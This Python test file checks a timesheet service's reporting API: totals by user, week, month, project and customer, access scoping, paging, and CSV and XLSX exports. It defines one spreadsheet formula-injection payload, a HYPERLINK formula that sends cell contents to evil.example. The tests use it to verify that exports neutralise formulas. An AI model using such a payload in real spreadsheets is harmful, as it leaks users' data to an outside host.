"""Time reports and the timesheet list over HTTP, on SQLite and PostgreSQL: grouping and
totals, weeks and months, billable and state splits, scoping, and the CSV and XLSX exports
(complete beyond one chunk, formulas neutralised)."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient

from ledgerdesk import bootstrap
from projections import timesheet_query
from projections.reports import export
from tests.factories import user_token

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def ok(response: Any, status: int = 200) -> Any:
    assert response.status_code == status, response.text
    return response.json()


class Desk:
    """Site (in the Acme and Globex customer folders) and Office (in none); Lena is a
    standard member of Site, Lou leads it, Omar works only on Office. Every read waits for
    the newest write."""

    def __init__(self, client: TestClient, live: bootstrap.Container) -> None:
        self.client = client
        self.position = 0
        self.people = {"admin": dict(client.headers)}
        acme, globex = (
            str(ok(client.post("/api/v1/customers", json={"name": n}), 201)["id"])
            for n in ("Acme", "Globex")
        )
        self.site = self.project("Site", customer_ids=[acme, globex])
        self.office = self.project("Office")
        for name, project, role in (
            ("lena", self.site, "standard"),
            ("lou", self.site, "lead"),
            ("omar", self.office, "standard"),
        ):
            headers = {"Authorization": f"Bearer {user_token(live, f'{name}@example.com')}"}
            me = ok(client.get("/api/v1/me", headers=headers))["id"]
            self.write("PUT", f"/api/v1/projects/{project}/members/{me}", role=role)
            self.people[name] = headers
        self.dig = self.task("Dig", self.site)
        self.sneaky = self.task(FORMULA, self.office)

    def write(
        self, method: str, url: str, expect: int = 200, who: str = "admin", **body: Any
    ) -> Any:
        response = self.client.request(method, url, json=body or None, headers=self.people[who])
        found = ok(response, expect)
        self.position = max(self.position, int(response.headers.get("X-Log-Position", 0)))
        return found

    def project(self, name: str, **body: Any) -> str:
        return str(self.write("POST", "/api/v1/projects", 201, name=name, **body)["id"])

    def task(self, title: str, project: str) -> int:
        created = self.write("POST", "/api/v1/tasks", 201, title=title, project_id=project)
        return int(created["number"])

    def log(self, who: str, item: int, day: str, minutes: int, **body: Any) -> str:
        entry = self.write(
            "POST", "/api/v1/timesheets", 201, who, item=item, date=day, minutes=minutes, **body
        )
        return str(entry["id"])

    def get(self, path: str, who: str = "admin", **params: Any) -> Any:
        headers = {**self.people[who], "X-Min-Position": str(self.position)}
        return self.client.get(path, params=params, headers=headers)

    def report(self, who: str = "admin", **params: Any) -> Any:
        return ok(self.get("/api/v1/reports/timesheets", who, **params))

    def entries(self, who: str = "admin", **params: Any) -> list[dict[str, Any]]:
        return ok(self.get("/api/v1/timesheets", who, **params))["items"]  # type: ignore[no-any-return]


def month_of_work(desk: Desk) -> dict[str, str]:
    """Time in every state: approved, non-billable, draft, rejected, withdrawn."""
    e = {
        "admin_dig": desk.log("admin", desk.dig, "2026-03-02", 60),  # Monday, week 10
        "lena_dig": desk.log("lena", desk.dig, "2026-03-04", 90, billable=False),
        "lena_draft": desk.log("lena", desk.dig, "2026-03-09", 30, draft=True),  # week 11
        "lou_dig": desk.log("lou", desk.dig, "2026-04-01", 45),  # week 14
        "admin_office": desk.log("admin", desk.sneaky, "2026-03-09", 120),
        "admin_gone": desk.log("admin", desk.sneaky, "2026-03-10", 15),
    }
    desk.write("POST", f"/api/v1/timesheets/{e['admin_dig']}/approval")
    desk.write("POST", f"/api/v1/timesheets/{e['lou_dig']}/rejection", reason="wrong day")
    desk.write("DELETE", f"/api/v1/timesheets/{e['admin_gone']}")
    return e


@pytest.fixture
def desk(client: TestClient, live: bootstrap.Container) -> Desk:
    return Desk(client, live)


def test_the_report_totals_each_user_and_week_split_by_billable_and_state(desk: Desk) -> None:
    month_of_work(desk)
    doc = desk.report(group_by="user,week")
    rows = {(g["user_name"], g["week"]): g for g in doc["groups"]}
    assert sorted(rows) == [
        ("admin", "2026-W10"),
        ("admin", "2026-W11"),  # the withdrawn 15 minutes never count
        ("lena", "2026-W10"),
        ("lena", "2026-W11"),
        ("lou", "2026-W14"),
    ]
    admin = rows[("admin", "2026-W10")]
    assert (admin["minutes"], admin["hours"], admin["approved_minutes"]) == (60, 1.0, 60)
    assert admin["week_start"] == "2026-03-02"
    lena = rows[("lena", "2026-W10")]
    assert (lena["billable_minutes"], lena["non_billable_minutes"]) == (0, 90)
    assert (lena["submitted_minutes"], lena["non_billable_hours"]) == (90, 1.5)
    assert rows[("lena", "2026-W11")]["draft_minutes"] == 30
    assert rows[("lou", "2026-W14")]["rejected_hours"] == 0.75
    assert rows[("admin", "2026-W11")]["submitted_minutes"] == 120
    assert doc["totals"]["minutes"] == 345
    assert doc["group_by"] == ["user", "week"]
    assert doc["next_cursor"] is None


def test_months_projects_customers_and_filters(desk: Desk) -> None:
    month_of_work(desk)
    months = desk.report(group_by="month")["groups"]
    assert [(g["month"], g["minutes"]) for g in months] == [("2026-03", 300), ("2026-04", 45)]
    projects = {g["project_name"]: g["minutes"] for g in desk.report(group_by="project")["groups"]}
    assert projects == {"Site": 225, "Office": 120}
    # Site sits in two customer folders: its time counts for each; the totals count it once.
    by_customer = desk.report(group_by="customer")
    customers = {g["customer_name"]: g["minutes"] for g in by_customer["groups"]}
    assert customers == {"Acme": 225, "Globex": 225, None: 120}
    assert by_customer["totals"]["minutes"] == 345
    items = desk.report(group_by="item", billable="true", **{"from": "2026-03-03"})["groups"]
    assert [(g["item_number"], g["item_title"], g["minutes"]) for g in items] == [
        (desk.dig, "Dig", 75),
        (desk.sneaky, FORMULA, 120),
    ]
    approved = desk.report(group_by="project", state="approved")["groups"]
    assert [(g["project_name"], g["minutes"]) for g in approved] == [("Site", 60)]


def test_members_see_their_own_time_leads_their_projects_and_outsiders_nothing(
    desk: Desk,
) -> None:
    e = month_of_work(desk)
    mine = desk.entries("lena")
    assert sorted(r["id"] for r in mine) == sorted([e["lena_dig"], e["lena_draft"]])
    assert desk.report("lena")["totals"]["minutes"] == 120
    led = desk.entries("lou")
    assert sorted(r["id"] for r in led) == sorted(
        e[k] for k in ("admin_dig", "lena_dig", "lena_draft", "lou_dig")
    )
    assert {g["user_name"] for g in desk.report("lou")["groups"]} == {"admin", "lena", "lou"}
    # Omar is no member of Site: nothing of it, not even with a filter naming it.
    assert desk.entries("omar") == []
    assert desk.entries("omar", project=desk.site) == []
    outsider = desk.report("omar", group_by="project")
    assert (outsider["groups"], outsider["totals"]["minutes"]) == ([], 0)
    assert len(desk.entries("admin")) == 6  # withdrawn entries stay in the list


def test_the_list_filters_and_pages_by_date(desk: Desk) -> None:
    e = month_of_work(desk)
    every = desk.entries(limit=200)
    assert [r["date"] for r in every] == sorted(r["date"] for r in every)
    seen, cursor = [], None
    while True:
        page = ok(desk.get("/api/v1/timesheets", limit=4, **({"cursor": cursor} if cursor else {})))
        seen += [r["id"] for r in page["items"]]
        if (cursor := page["next_cursor"]) is None:
            break
    assert seen == [r["id"] for r in every]
    lena = ok(desk.get("/api/v1/me", "lena"))["id"]
    assert [r["id"] for r in desk.entries(user=lena, state="draft")] == [e["lena_draft"]]
    office = desk.entries(project=desk.office, state="withdrawn")
    assert [(r["id"], r["item_title"]) for r in office] == [(e["admin_gone"], FORMULA)]
    march = desk.entries(item=desk.dig, **{"from": "2026-03-03", "to": "2026-03-31"})
    assert [r["id"] for r in march] == [e["lena_dig"], e["lena_draft"]]
    rejected = desk.entries(state="rejected")[0]
    assert (rejected["rejection_reason"], rejected["user_name"]) == ("wrong day", "lou")


@pytest.mark.parametrize(
    ("params", "name"),
    [
        ({"group_by": "colour"}, "group_by"),
        ({"group_by": "user,user"}, "group_by"),
        ({"group_by": "user,"}, "group_by"),
        ({"format": "pdf"}, "format"),
        ({"from": "2026-13-01"}, "from"),
        ({"to": "yesterday"}, "to"),
        ({"from": "2026-03-02", "to": "2026-03-01"}, "to"),
        ({"format": "csv", "cursor": "abc"}, "cursor"),
        ({"cursor": "not-a-cursor"}, "cursor"),
    ],
)
def test_bad_report_parameters_are_problems_naming_them(
    client: TestClient, params: dict[str, str], name: str
) -> None:
    response = client.get("/api/v1/reports/timesheets", params=params)
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["errors"][0]["location"] == ["query", name]


def test_a_bad_list_date_is_a_problem(client: TestClient) -> None:
    response = client.get("/api/v1/timesheets", params={"from": "03/02/2026"})
    assert response.status_code == 422
    assert response.json()["errors"][0]["location"] == ["query", "from"]


def spread_out(desk: Desk) -> None:
    """Seven weeks of time on the formula-titled task: seven groups by week."""
    for week in range(7):
        desk.log("admin", desk.sneaky, f"2026-0{5 + week // 4}-{1 + 7 * (week % 4):02d}", 10)


def test_the_csv_export_streams_every_group_and_neutralises_formulas(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(timesheet_query, "CHUNK", 2)  # seven groups: four chunks
    spread_out(desk)
    response = desk.get(
        "/api/v1/reports/timesheets", group_by="item,week", format="csv", **{"from": "2026-05-01"}
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        'attachment; filename="timesheets-item-week-2026-05-01.csv"'
    )
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 7
    assert [r["week"] for r in rows] == sorted(r["week"] for r in rows)
    assert {r["item_title"] for r in rows} == {"'" + FORMULA}
    assert {(r["minutes"], r["hours"]) for r in rows} == {("10", "0.17")}
    assert list(rows[0])[:4] == ["item_number", "item_kind", "item_title", "week"]


def test_the_xlsx_export_is_a_workbook_with_formulas_written_as_text(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(timesheet_query, "CHUNK", 2)
    monkeypatch.setattr(export, "SHEET_ROWS", 5)  # a header and 4 rows a sheet
    spread_out(desk)
    response = desk.get("/api/v1/reports/timesheets", group_by="item,week", format="xlsx")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    assert response.headers["content-disposition"].endswith('.xlsx"')
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Time 1", "Time 2"]
    header, *rows = [list(r) for r in workbook["Time 1"].iter_rows()]
    _, *more = [list(r) for r in workbook["Time 2"].iter_rows()]
    assert (len(rows), len(more)) == (4, 3)
    names = [c.value for c in header]
    title = names.index("item_title")
    for row in rows + more:
        assert row[title].value == FORMULA
        assert row[title].data_type == "s"  # a string, never a formula
        assert row[names.index("minutes")].value == 10
        assert row[names.index("hours")].value == pytest.approx(0.17)
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 2
        assert not any(b"<f>" in archive.read(n) for n in sheets)  # no formula cell at all


def test_an_empty_export_still_has_its_header(client: TestClient) -> None:
    response = client.get("/api/v1/reports/timesheets", params={"format": "csv"})
    assert response.status_code == 200
    assert response.text.splitlines()[0].startswith("user_id,user_name,entries,minutes,hours")
    empty = client.get("/api/v1/reports/timesheets", params={"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(empty.content))["Time 1"]
    assert [c.value for c in next(sheet.iter_rows())][:2] == ["user_id", "user_name"]
    assert sheet.max_row == 1
